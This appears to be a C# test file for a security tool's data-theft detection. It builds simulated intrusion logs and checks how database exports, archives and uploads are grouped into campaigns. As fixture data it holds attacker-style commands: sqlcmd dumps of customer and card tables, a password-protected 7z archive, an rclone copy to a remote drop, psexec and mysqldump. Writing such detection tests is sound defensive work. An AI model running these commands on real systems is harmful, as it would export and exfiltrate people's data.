using Vigil.Campaigns;
using Vigil.Campaigns.Entities;
using Vigil.Campaigns.Context;
using Vigil.Campaigns.Scoring;
using Vigil.IO;
using Vigil.Rules;
using Vigil.Tests.Cli;
using static Vigil.Tests.Campaigns.EventSet;

namespace Vigil.Tests.Campaigns;

/// <summary>Theft evidence: a database export, a password archive, and an upload measured by Zeek to an address the host
/// had never talked to before, while an equally large transfer to an address it already knew is not theft.</summary>
public class TheftTests
{
    [Fact]
    public void Large_upload_to_a_new_external_address_is_theft_and_one_to_a_known_address_is_not()
    {
        var s = new EventSet();
        const string sql = "10.0.0.30";
        var t = Day.AddHours(12);
        // SQL1's address, and its nightly transfer to a known partner at 01:00 (first contact long before the campaign).
        s.Net(Day.AddHours(1), "SQL1", "{N-0}", "C:\\Windows\\System32\\svchost.exe", sql, "10.0.0.5", 53);
        s.Zeek(Day.AddHours(1), sql, "93.184.216.34", 443, 10_000);
        s.Zeek(t.AddMinutes(5), sql, "93.184.216.34", 443, 700L * 1024 * 1024);
        s.Process(t, "SQL1", "{T-1}", "{T-0}", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "CORP\\mallory", "0x7100");
        s.Process(t.AddSeconds(30), "SQL1", "{T-2}", "{T-1}", "C:\\Tools\\SQLCMD.EXE", "sqlcmd -S localhost -E -Q \"SELECT * FROM dbo.Customers\" -o c.csv", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Process(t.AddSeconds(90), "SQL1", "{T-3}", "{T-1}", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z -pS3cret out.7z c.csv", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Process(t.AddSeconds(150), "SQL1", "{T-4}", "{T-1}", "C:\\Tools\\rclone.exe", "rclone.exe copy out.7z remote:drop", "CORP\\mallory", "0x7100", "C:\\Windows\\System32\\cmd.exe");
        s.Zeek(t.AddSeconds(151), sql, "198.51.100.9", 443, 600L * 1024 * 1024);
        s.Zeek(t.AddSeconds(400), sql, "198.51.100.9", 443, 20L * 1024 * 1024);
        var dir = CliRunner.TempDir("camp-theft");
        var campaigns = Hunt(dir, s.Write(dir));
        var c = campaigns[0];
        Assert.Equal("intrusion", c.GetProperty("kind").GetString());
        var theft = c.GetProperty("theft").EnumerateArray().ToList();
        Assert.Contains(theft, x => x.GetProperty("kind").GetString() == "database-export" && x.GetProperty("detections").GetArrayLength() == 1);
        Assert.Contains(theft, x => x.GetProperty("kind").GetString() == "archive");
        var upload = Assert.Single(theft, x => x.GetProperty("kind").GetString() == "upload");
        Assert.Equal("198.51.100.9", upload.GetProperty("destination").GetString());
        Assert.Equal(620L * 1024 * 1024, upload.GetProperty("bytes").GetInt64());
        Assert.Equal("SQL1", upload.GetProperty("host").GetString());
        Assert.Contains("198.51.100.9", Strings(c, "external_addresses"));
        Assert.DoesNotContain("93.184.216.34", Strings(c, "external_addresses"));
        Assert.Contains("collection", Strings(c, "tactics"));
    }

    /// <summary>Uploads named by exfiltration detections (rclone connecting out, the built-in rule): one measured by Zeek,
    /// listing the detections of its host or source address only, and one whose flow began before the campaign, listing
    /// all of its destination's. Built in memory and with every sort in 5-row runs and every list in a file past 7 entries: the same
    /// campaigns, and the ids the detections say.</summary>
    [Fact]
    public void Uploads_named_by_exfiltration_detections_list_theirs_through_files_and_in_memory()
    {
        var s = new EventSet();
        var t = Day.AddHours(12);
        const string sql = "10.0.0.30", ws = "10.0.0.31", drop = "198.51.100.9", other = "203.0.113.7";
        s.Process(t, "SQL1", "{T-1}", "{T-0}", "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z -pS3cret out.7z c.csv", "CORP\\mallory", "0x7100");
        for (int i = 0; i < 120; i++)
        {
            // The chunked upload from SQL1 to two endpoints, and WS2's own connections to the first.
            s.Net(t.AddSeconds(60 + i), "SQL1", "{R-1}", "C:\\Tools\\rclone.exe", sql, i % 3 == 0 ? other : drop, 443);
            if (i % 4 == 0) s.Net(t.AddSeconds(60.5 + i), "WS2", "{R-2}", "C:\\Tools\\rclone.exe", ws, drop, 443);
        }
        s.Zeek(t.AddSeconds(61), sql, drop, 443, 900L * 1024 * 1024);
        // SQL1 first talked to the second endpoint at 01:00: that flow began long before the campaign and is not its upload.
        s.Zeek(Day.AddHours(1), sql, other, 443, 10_000);
        var dir = CliRunner.TempDir("camp-theft-named");
        var path = s.Write(dir);
        var set = RuleLoader.Load([], includeBuiltin: true);
        var collector = OtrfRecordings.Hunt(set, new CampaignCollector(), [path]);
        var facts = Enumerable.Range(0, collector.Facts.Count).Select(i => collector.Facts[i])
            .Where(f => f.Tactics.Contains("exfiltration") && f.DestAddress.Length > 0).ToList();
        var viaFiles = CampaignBuilder.Build(collector.Facts, collector.Context, out _, null, ExternalBuildTests.Tiny);
        var inMemory = CampaignBuilder.Build(collector.Facts, collector.Context, out _, null, ExternalBuildTests.InMemory);
        Assert.Equal(OtrfRecordings.Json(inMemory), OtrfRecordings.Json(viaFiles));

        var thefts = viaFiles.SelectMany(c => c.Theft).Where(x => x.Kind == "upload").ToList();
        var measured = Assert.Single(thefts, x => x.Destination == drop && x.Host == "SQL1");
        Assert.Equal(900L * 1024 * 1024, measured.Bytes);
        var expected = facts.Where(f => f.DestAddress == drop && (f.Host == "SQL1" || f.SourceAddress == sql)).Select(f => f.Id).Order().ToList();
        Assert.Equal(81, expected.Count);   // 80 connections, and the large transfer's own detection (Zeek)
        Assert.Equal(expected, measured.DetectionIds.ToList());
        var unmeasured = Assert.Single(thefts, x => x.Destination == other);
        Assert.Equal(facts.Where(f => f.DestAddress == other).Select(f => f.Id).Order(), unmeasured.DetectionIds.ToList());
        Assert.Equal(40, unmeasured.DetectionIds.Count);
        // WS2's connections are its own: no flow shows them, so they are one upload of all the destination's detections
        // only if WS2 is in another campaign; in SQL1's campaign they are never SQL1's upload.
        Assert.DoesNotContain(facts.Where(f => f.Host == "WS2").Select(f => f.Id), id => measured.DetectionIds.Contains(id));
    }

    /// <summary>Large transfers to new addresses are uploads only within two hours after the campaign staged data on that
    /// host: a database export detected at 12:00 stages the transfer at 13:00; an export no rule detected, at 14:00 (in the
    /// actor's process tree), stages the one at 14:30; the one at 16:30 follows neither within two hours, and the export
    /// detected again at 16:45 comes after it. Nor is WS2's transfer an upload: WS2 staged nothing.</summary>
    [Fact]
    public void A_large_transfer_is_an_upload_only_within_two_hours_after_staging_on_its_host()
    {
        var s = new EventSet();
        var t = Day.AddHours(12);
        const string sql = "10.0.0.30", ws = "10.0.0.31";
        const string cmd = "C:\\Windows\\System32\\cmd.exe";
        s.Net(Day.AddHours(1), "SQL1", "{N-0}", "C:\\Windows\\System32\\svchost.exe", sql, "10.0.0.5", 53);
        s.Net(Day.AddHours(1), "WS2", "{N-1}", "C:\\Windows\\System32\\svchost.exe", ws, "10.0.0.5", 53);
        s.Process(t, "SQL1", "{T-1}", "{T-0}", cmd, "cmd.exe", "CORP\\mallory", "0x7100");
        s.Process(t.AddSeconds(30), "SQL1", "{T-2}", "{T-1}", "C:\\Tools\\SQLCMD.EXE", "sqlcmd -S localhost -E -Q \"SELECT * FROM dbo.Cards\" -o c.csv", "CORP\\mallory", "0x7100", cmd);
        s.Process(t.AddHours(2), "SQL1", "{T-3}", "{T-1}", "C:\\Tools\\mysqldump.exe", "mysqldump --all-databases -r all.sql", "CORP\\mallory", "0x7100", cmd);
        s.Process(t.AddHours(4.75), "SQL1", "{T-4}", "{T-1}", "C:\\Tools\\SQLCMD.EXE", "sqlcmd -S localhost -E -Q \"SELECT * FROM dbo.Accounts\" -o a.csv", "CORP\\mallory", "0x7100", cmd);
        for (int h = 1; h <= 4; h++)
        {
            s.Process(t.AddHours(h), "SQL1", "{T-" + (10 + h) + "}", "{T-1}", "C:\\Windows\\System32\\whoami.exe", "whoami /all", "CORP\\mallory", "0x7100", cmd);
            s.Process(t.AddHours(h).AddSeconds(5), "SQL1", "{T-" + (20 + h) + "}", "{T-1}", "C:\\Windows\\PSEXEC.EXE", "psexec \\\\WS2 cmd", "CORP\\mallory", "0x7100", cmd);
        }
        s.Zeek(t.AddHours(1), sql, "198.51.100.10", 443, 400L * 1024 * 1024);
        s.Zeek(t.AddHours(2.5), sql, "198.51.100.11", 443, 400L * 1024 * 1024);
        s.Zeek(t.AddHours(4.5), sql, "198.51.100.13", 443, 400L * 1024 * 1024);
        s.Zeek(t.AddHours(1.5), ws, "198.51.100.12", 443, 400L * 1024 * 1024);
        var dir = CliRunner.TempDir("camp-theft-staged");
        var campaigns = Hunt(dir, s.Write(dir));
        var c = Assert.Single(campaigns, x => Strings(x, "hosts").Contains("SQL1"));
        var theft = c.GetProperty("theft").EnumerateArray().ToList();
        Assert.Contains(theft, x => x.GetProperty("kind").GetString() == "database-export" && x.GetProperty("detail").GetString()!.StartsWith("mysqldump", StringComparison.Ordinal));
        var uploads = theft.Where(x => x.GetProperty("kind").GetString() == "upload").Select(x => x.GetProperty("destination").GetString()).ToList();
        Assert.Equal(["198.51.100.10", "198.51.100.11"], uploads);
    }

    /// <summary>The theft table gives what a list of the steps sorted by time (stably) gives, step for step and id for id,
    /// without the steps equal to an earlier one in kind, host, detail and destination: 3,000 steps at 40 distinct times
    /// (ties keep the order found), hundreds of them repeated, a third of them uploads whose ids come later in another
    /// order, texts repeated, long and with lone surrogates; held in memory, and with every list in a file past 7 entries
    /// and every text past the first in a file.</summary>
    [Fact]
    public void Theft_table_gives_the_steps_sorted_by_time_with_their_ids()
    {
        var rng = new Random(42);
        var t0 = Day.AddHours(9);
        string[] hosts = ["SQL1", "WS2", "cloud", "", new string('\u00e9', 5_000) + "\ud800"];
        string[] kinds = ["database-export", "archive", "cloud-bulk-read", "snapshot-share"];
        var expected = new List<DataTheft>();
        var uploads = new List<(int Step, List<long> Ids)>();
        foreach (var limits in new[] { ExternalBuildTests.Tiny, ExternalBuildTests.InMemory })
        {
            expected.Clear();
            uploads.Clear();
            rng = new Random(42);
            using var table = new TheftTable(limits);
            for (int i = 0; i < 3_000; i++)
            {
                var time = t0.AddSeconds(rng.Next(40));
                var host = hosts[rng.Next(hosts.Length)];
                var detail = rng.Next(3) == 0 ? "7z.exe a -pX out.7z" : $"{rng.Next(1_000)} connections to 198.51.{i % 7}.9";
                long bytes = rng.NextInt64(0, 1L << 40);
                var dest = rng.Next(2) == 0 ? "" : $"198.51.100.{rng.Next(300)}";
                var ids = Enumerable.Range(0, i == 1_234 ? 20_000 : rng.Next(12)).Select(k => 5L * i + 3L * k).ToList();
                if (rng.Next(3) == 0)
                {
                    int upload = table.AddUpload(time.Ticks, host, detail, bytes, dest);
                    Assert.Equal(uploads.Count, upload);
                    uploads.Add((expected.Count, ids));
                    expected.Add(new DataTheft(time, host, "upload", detail, bytes, dest, ids));
                }
                else
                {
                    var kind = kinds[rng.Next(kinds.Length)];
                    table.Add(time.Ticks, host, kind, detail, bytes, dest, ids);
                    expected.Add(new DataTheft(time, host, kind, detail, bytes, dest, ids));
                }
            }
            Assert.Throws<InvalidOperationException>(() => table.Count);
            var order = Enumerable.Range(0, uploads.Count).OrderBy(_ => rng.Next()).ToList();
            foreach (int u in order)
                foreach (long id in uploads[u].Ids) table.AddUploadId(u, id);
            // An upload whose ids are done, not the last one given ids: more of its ids would be a second part.
            int twice = order.First(u => uploads[u].Ids.Count > 0);
            Assert.Throws<InvalidOperationException>(() => table.AddUploadId(twice, 1));
            table.Seal();
            Assert.Throws<InvalidOperationException>(() => table.Add(t0.Ticks, "H", "archive", "", 0, "", []));
            // A step equal to an earlier one in kind, host, detail and destination is dropped.
            var sorted = expected.DistinctBy(x => (x.Kind, x.Host, x.Detail, x.Destination)).OrderBy(x => x.Time).ToList();
            Assert.InRange(sorted.Count, 1_000, expected.Count - 100);
            Assert.Equal(sorted.Count, table.Count);
            int n = 0;
            foreach (var step in table)
            {
                var want = sorted[n++];
                Assert.Equal(want with { DetectionIds = [] }, step with { DetectionIds = [] });
                Assert.Equal(DateTimeKind.Utc, step.Time.Kind);
                Assert.Equal(want.DetectionIds, step.DetectionIds);
            }
            for (int i = sorted.Count - 1; i >= 0; i -= 97) Assert.Equal(sorted[i].DetectionIds, table[i].DetectionIds);
            Assert.Contains(table, x => x.DetectionIds.Count == 20_000);
        }
    }

    /// <summary>A campaign with no theft: the sealed table is empty.</summary>
    [Fact]
    public void An_empty_theft_table_seals_empty()
    {
        using var table = new TheftTable(ExternalBuildTests.Tiny);
        Assert.Empty(table.Seal());
        Assert.Throws<ArgumentOutOfRangeException>(() => table[0]);
    }

    /// <summary>The exfiltration index answers what per-destination sets and lists in memory answer (the theft finder's
    /// model before): 4,000 detections, 1,000 of them not exfiltration, naming 300 destinations from 40 hosts and 60
    /// addresses, one destination from 600 of each (past the index's per-destination lists, lowered to 8, and to 1), and 200 named by
    /// one host. The destinations
    /// first named where and with what bytes, in the order first named; who named each; the (source, destination) pairs
    /// by destination, then source, as first seen; each destination's detections, ids ascending. In memory, and with every
    /// sort in 5-row runs and every list in a file.</summary>
    [Fact]
    public void Exfiltration_index_answers_as_sets_in_memory()
    {
        var rng = new Random(3);
        string[] exfil = ["exfiltration"], other = ["discovery"];
        var facts = new List<DetectionFact>();
        var ids = Enumerable.Range(0, 4_600).Select(i => 1_000L + 3 * i).OrderBy(_ => rng.Next()).ToList();
        for (int k = 0; k < 4_600; k++)
        {
            bool wide = k >= 4_000;
            facts.Add(new DetectionFact
            {
                Id = ids[k], Ticks = Day.Ticks + k, RuleId = "r", RuleTitle = "t", Level = "medium", Tactics = rng.Next(4) == 0 && !wide ? other : exfil,
                Techniques = [], Host = wide ? $"EP{k}" : $"H{rng.Next(40)}", SourceAddress = wide ? $"10.9.{k >> 8}.{k & 255}" : $"10.0.0.{rng.Next(60)}",
                DestAddress = wide ? "203.0.113.200" : rng.Next(10) == 0 ? "10.1.1.1" : $"198.51.{rng.Next(2)}.{rng.Next(150)}", Bytes = rng.Next(1_000),
            });
        }
        // Destinations named once, or twice from one host (by two addresses, or one): one host, and maybe one address.
        for (int k = 0; k < 200; k++)
            for (int twice = 0; twice < 1 + k % 2; twice++)
                facts.Add(new DetectionFact
                {
                    Id = 100_000L + 2 * k + twice, Ticks = Day.Ticks + 10_000 + k, RuleId = "r", RuleTitle = "t", Level = "medium", Tactics = exfil,
                    Techniques = [], Host = $"SOLO{k % 7}", SourceAddress = $"10.8.0.{k % 5 + (k % 4 == 1 ? twice : 0)}", DestAddress = $"203.0.114.{k}", Bytes = k,
                });
        bool Named(DetectionFact f) => f.Tactics.Contains("exfiltration") && !Vigil.Campaigns.Entities.Names.IsInternal(f.DestAddress);
        // The model: per destination in the order first named, its first detection, bytes, hosts, sources in order first seen.
        var dests = new List<string>();
        var model = new Dictionary<string, (int FirstAt, long Bytes, HashSet<string> Hosts, List<string> Sources, List<DetectionFact> Facts)>();
        for (int k = 0; k < facts.Count; k++)
        {
            var f = facts[k];
            if (!Named(f)) continue;
            if (!model.TryGetValue(f.DestAddress, out var m)) { model[f.DestAddress] = m = (k, 0, [], [], []); dests.Add(f.DestAddress); }
            model[f.DestAddress] = m with { Bytes = m.Bytes + f.Bytes };
            m.Hosts.Add(f.Host);
            if (!m.Sources.Contains(f.SourceAddress)) m.Sources.Add(f.SourceAddress);
            m.Facts.Add(f);
        }
        Assert.True(model["203.0.113.200"].Hosts.Count == 600 && dests.Count > 450, $"{dests.Count} destinations");
        Assert.Contains(dests, x => model[x].Hosts.Count == 1 && model[x].Sources.Count == 2);
        Assert.Contains(dests, x => model[x].Hosts.Count == 1 && model[x].Sources.Count == 1 && model[x].Facts.Count == 2);
        foreach (var (limits, perDest) in new[] { (ExternalBuildTests.Tiny, 8), (ExternalBuildTests.InMemory, 8), (ExternalBuildTests.Tiny, 1) })
        {
            using var index = new ExfilIndex(facts, Named, limits, distinctPerDest: perDest);
            Assert.Equal(dests.Count, index.Count);
            Assert.Equal(-1, index.Find("198.51.7.7", out _));
            Assert.Equal(-1, index.Find("10.1.1.1", out _));
            Assert.Equal(dests, index.InOrderNamed().Select(i => facts[index[i].FirstAt].DestAddress));
            Assert.Equal(dests.SelectMany(dest => model[dest].Sources.Select(s => (s, dest))), index.NamedPairs(facts));
            var hosts = facts.Select(f => f.Host).Distinct().ToList();
            var sources = facts.Select(f => f.SourceAddress).Distinct().ToList();
            foreach (var dest in dests)
            {
                var m = model[dest];
                int i = index.Find(dest, out var row);
                Assert.Equal(TextHash.Of(dest.AsSpan()), row.Hash);
                Assert.Equal(index[i], row);
                Assert.Equal((m.Hosts.Count == 1, m.Sources.Count == 1), (row.OneHost, row.OneSource));
                Assert.True(i >= 0, dest);
                Assert.Equal((m.FirstAt, m.Bytes), (index[i].FirstAt, index[i].Bytes));
                Assert.Equal(m.Facts.Select(f => f.Id).Order(), index.Rows(i).Select(r => r.Id));
                Assert.Equal(m.Facts.OrderBy(f => f.Id).Select(f => (TextHash.Of64(f.Host), TextHash.Of64(f.SourceAddress))),
                    index.Rows(i).Select(r => (r.Host, r.Source)));
                foreach (var h in hosts.Take(dest == "203.0.113.200" ? 700 : 50))
                    Assert.Equal(m.Hosts.Contains(h), index.NamedByHost(row, TextHash.Of64(h)));
                foreach (var s in sources.Take(dest == "203.0.113.200" ? 700 : 70))
                    Assert.Equal(m.Sources.Contains(s), index.NamedFrom(row, TextHash.Of64(s)));
            }
            Assert.Throws<InvalidOperationException>(() => index.NamedPairs(facts).ToList());
        }
    }

    /// <summary>Export and archive steps from sorts give what the dictionary and list of before gave (kept here as the
    /// model): 3,000 detections on 4 hosts of 30 commands, runs of a command within 5 seconds folded, a later run replacing
    /// the earlier, and 1,500 processes of the actor, those within 5 seconds of a step of their kind on their host left out,
    /// and those equal to an earlier step. The same steps and ids, in memory and with every sort in 5-row runs; staging
    /// found where the model finds it.</summary>
    /// <summary>The seen-steps set in memory and through files (7 hashes in memory: every few adds a new file, merged
    /// past 8) answers each add as a <see cref="HashSet{T}"/> does: repeats soon after, long after (in a merged file) and
    /// never.</summary>
    [Fact]
    public void Hash_runs_answer_as_a_hash_set()
    {
        foreach (var limits in new[] { ExternalBuildTests.Tiny, ExternalBuildTests.InMemory })
        {
            var random = new Random(7);
            using var runs = new HashRuns("test-hash-runs", limits);
            var model = new HashSet<UInt128>();
            for (int i = 0; i < 4_000; i++)
            {
                // Recent repeats, old repeats and new hashes; a hash is 128 bits, so the high half matters too.
                int v = random.Next(3) switch { 0 => i - random.Next(Math.Min(i, 10) + 1), 1 => random.Next(i + 1), _ => 10_000 + i };
                var hash = new UInt128((ulong)(v % 5), (ulong)v * 0x9E3779B97F4A7C15UL);
                Assert.True(model.Add(hash) == runs.Add(hash), $"add {i}: {v}");
                Assert.True(runs.Runs <= HashRuns.MaxRuns, $"{runs.Runs} files to search");
            }
            Assert.Equal(model.Count, runs.Count);
            if (limits == ExternalBuildTests.Tiny) Assert.True(runs.RunsWritten > 2 * HashRuns.MaxRuns, $"{runs.RunsWritten} files");
            else Assert.Equal(0, runs.RunsWritten);
        }
    }

    [Fact]
    public void Command_steps_from_sorts_equal_the_model()
    {
        var rng = new Random(11);
        string[] commands = [.. Enumerable.Range(0, 30).Select(i => i % 3 == 0 ? $"pg_dump -Fc crm{i % 7} -f d{i}.dump" : i % 3 == 1 ? $"7z.exe a -pX{i % 4} out{i}.7z c.csv" : $"whoami /all {i}")];
        string[] hosts = ["SQL1", "SQL2", "WS3", "ADM4"];
        var t0 = Day.AddHours(9).Ticks;
        var ticks = 0L;
        var facts = new List<DetectionFact>();
        for (int k = 0; k < 3_000; k++)
        {
            ticks += rng.Next(4) == 0 ? 0 : rng.Next(1, 4) * TimeSpan.TicksPerSecond;
            facts.Add(new DetectionFact
            {
                Id = 10_000 - 3L * k + rng.Next(3), Ticks = t0 + ticks, RuleId = "r", RuleTitle = "t", Level = rng.Next(3) == 0 ? "high" : "low",
                Tactics = rng.Next(4) == 0 ? ["collection"] : ["execution"], Techniques = [], Host = hosts[rng.Next(hosts.Length)], Detail = commands[rng.Next(commands.Length)],
            });
        }
        var factHosts = facts.Select(f => f.Host).ToList();
        List<ProcRec> procs = [];
        long pt = 0;
        for (int i = 0; i < 1_500; i++)
        {
            pt += rng.Next(0, 5) * TimeSpan.TicksPerSecond;
            var cmd = commands[rng.Next(commands.Length)] + (rng.Next(2) == 0 ? "" : $" -v{rng.Next(3)}") + (i == 700 ? new string('x', 400) : "");
            procs.Add(new ProcRec(t0 + pt, hosts[rng.Next(hosts.Length)], "", "", i, 1, "x.exe", "cmd.exe", cmd, "CORP\\a", 7, true));
        }

        // The model: TheftFinder's code before the sorts.
        var seen = new HashSet<(string, string, string)>();
        var model = new List<DataTheft>();
        var byCommand = new Dictionary<(string Host, string Detail), (int First, List<long> Ids, string Kind)>();
        for (int k = 0; k < facts.Count; k++)
        {
            var f = facts[k];
            if (byCommand.TryGetValue((factHosts[k], f.Detail), out var have) && f.Ticks - facts[have.First].Ticks <= TimeSpan.TicksPerSecond * 5) { have.Ids.Add(f.Id); continue; }
            var kind = TheftFinder.CommandKind(f.Detail);
            if (kind is null) continue;
            byCommand[(factHosts[k], f.Detail)] = (k, [f.Id], kind);
        }
        foreach (var (key, v) in byCommand.OrderBy(kv => kv.Value.First))
            if (seen.Add((v.Kind, key.Host, key.Detail))) model.Add(new DataTheft(facts[v.First].Time, key.Host, v.Kind, key.Detail, 0, "", v.Ids.Order().ToList()));
        int fromDetections = model.Count;
        // Processes a few seconds before or after the detections' steps, on their hosts, with commands of their kind (the
        // processes come by time, as the campaign's do).
        int near = 0;
        foreach (var step in model.ToList())
        {
            var cmd = (step.Kind == "archive" ? "7z.exe a -pZ near" : "pg_dump -f near") + near++;
            procs.Add(new ProcRec(step.Time.Ticks + (near % 3 - 1) * 3 * TimeSpan.TicksPerSecond, step.Host, "", "", 0, 1, "x.exe", "cmd.exe", cmd, "CORP\\a", 7, true));
        }
        procs = [.. procs.OrderBy(p => p.Ticks)];
        foreach (var p in procs)
        {
            var kind = TheftFinder.CommandKind(p.CommandLine);
            if (kind is null) continue;
            var detail = p.CommandLine.Length > 300 ? p.CommandLine[..300] + "…" : p.CommandLine;
            if (model.Any(t => t.Host == p.Host && t.Kind == kind && Math.Abs(t.Time.Ticks - p.Ticks) <= TimeSpan.TicksPerSecond * 5)) continue;
            if (seen.Add((kind, p.Host, detail))) model.Add(new DataTheft(new DateTime(p.Ticks, DateTimeKind.Utc), p.Host, kind, detail, 0, "", []));
        }
        Assert.True(fromDetections > 10 && model.Count - fromDetections > 10 && model.Any(m => m.DetectionIds.Count > 1), $"{fromDetections} and {model.Count - fromDetections} steps");
        var expected = model.OrderBy(m => m.Time).ToList();

        foreach (var limits in new[] { ExternalBuildTests.Tiny, ExternalBuildTests.InMemory })
        {
            using var d = new Draft(limits) { Facts = facts, FactHosts = factHosts, Procs = procs };
            using var table = new TheftTable(limits);
            using var staging = new TheftFinder.Staging(d, limits);
            TheftFinder.Commands(d, table, staging, limits);
            table.Seal();
            Assert.Equal(expected.Count, table.Count);
            for (int i = 0; i < expected.Count; i++)
            {
                Assert.Equal(expected[i] with { DetectionIds = [] }, table[i] with { DetectionIds = [] });
                Assert.Equal(expected[i].DetectionIds, table[i].DetectionIds);
            }
            // Staging: a step of the model, or a detection of medium level or above tagged collection, on the host in the two
            // hours before (to a minute after).
            for (int probe = 0; probe < 300; probe++)
            {
                var host = hosts[probe % hosts.Length];
                long at = t0 + rng.NextInt64(-TimeSpan.TicksPerHour, pt + 3 * TimeSpan.TicksPerHour);
                long from = at - 2 * TimeSpan.TicksPerHour, to = at + TimeSpan.TicksPerMinute;
                bool want = model.Any(m => m.Host == host && m.Time.Ticks >= from && m.Time.Ticks <= to)
                    || facts.Any(f => f.Host == host && f.Level == "high" && f.Tactics.Contains("collection") && f.Ticks >= from && f.Ticks <= to);
                Assert.Equal(want, staging.Before(host, at));
            }
        }
    }
}
